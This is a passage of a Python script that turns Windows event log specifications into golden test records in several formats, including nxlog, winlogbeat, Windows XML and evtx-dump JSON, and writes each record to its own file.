              'SourceProcessGUID', 'TargetProcessGUID', 'TargetLogonGuid', 'TransactionId', 'SubcategoryGuid',
              'TaskInstanceId'}


def evtx_guid(g):
    return g.strip('{}').upper()


def evtx_value(s, k, v):
    if k in EVTX_NUMBERS.get(s['source'], ()) and v.isdigit():
        return int(v)
    if k in EVTX_BOOLEANS.get(s['source'], ()) and v in ('true', 'false'):
        return v == 'true'
    if k in EVTX_GUIDS and v.startswith('{'):
        return evtx_guid(v)
    return v


def evtx_dump(s):
    t = s['time']
    provider = {'Name': s['provider']}
    if s['guid']:
        provider['Guid'] = evtx_guid(s['guid'])
    if s['qualifiers'] is not None and s['guid']:
        provider['EventSourceName'] = s['provider']
    system = {'Provider': {'#attributes': provider},
              'EventID': s['id'] if s['qualifiers'] is None
              else {'#attributes': {'Qualifiers': s['qualifiers']}, '#text': s['id']}}
    classic = s['guid'] is None
    if not classic:
        system['Version'] = s['version']
    system.update({'Level': s['level'], 'Task': s['task']})
    if not classic:
        system['Opcode'] = s['opcode']
    system.update({'Keywords': '0x%x' % s['keywords'],
                   'TimeCreated': {'#attributes': {'SystemTime': t.strftime('%Y-%m-%dT%H:%M:%S.') + '%06dZ' % t.microsecond}},
                   'EventRecordID': s['record'],
                   'Correlation': {'#attributes': {'ActivityID': evtx_guid(s['activity'])}} if s['activity'] else None,
                   'Execution': {'#attributes': {'ProcessID': s['pid'], 'ThreadID': s['tid']}},
                   'Channel': s['channel'], 'Computer': s['computer'],
                   'Security': {'#attributes': {'UserID': s['sid']}} if s['sid'] else None})
    event = {'#attributes': {'xmlns': 'http://schemas.microsoft.com/win/2004/08/events/event'}, 'System': system}
    if s['userdata']:
        element, ns, fields = s['userdata']
        body = {'#attributes': {'xmlns': ns}}
        body.update((k, evtx_value(s, k, v)) for k, v in fields)
        event['UserData'] = {element: body}
    else:
        if s['unnamed']:
            data = {'Data': {'#text': s['unnamed'] if len(s['unnamed']) > 1 else s['unnamed'][0]}}
        else:
            data = {k: evtx_value(s, k, v) for k, v in s['data']}
        if s['binary']:
            data['Binary'] = s['binary']
        event['EventData'] = data
    return json.dumps({'Event': event}, ensure_ascii=False, indent=2) + '\n'


RENDER = {'nxlog': nxlog, 'winlogbeat': winlogbeat, 'windows-xml': xml, 'flat': flat, 'winlogbeat6': winlogbeat6,
          'evtx-dump-json': evtx_dump}


def main():
    count = 0
    for s in SPECS:
        finish(s)
        for fmt, ext in FORMATS.items():
            folder = os.path.join(OUT, fmt)
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, f"corpus_{s['source']}_{s['id']}.{ext}"), 'w', encoding='utf-8',
                      newline='\n') as f:
                f.write(RENDER[fmt](s))
            count += 1
    print(f'{len(SPECS)} events, {count} golden raw records under {os.path.normpath(OUT)}')


if __name__ == '__main__':
    main()
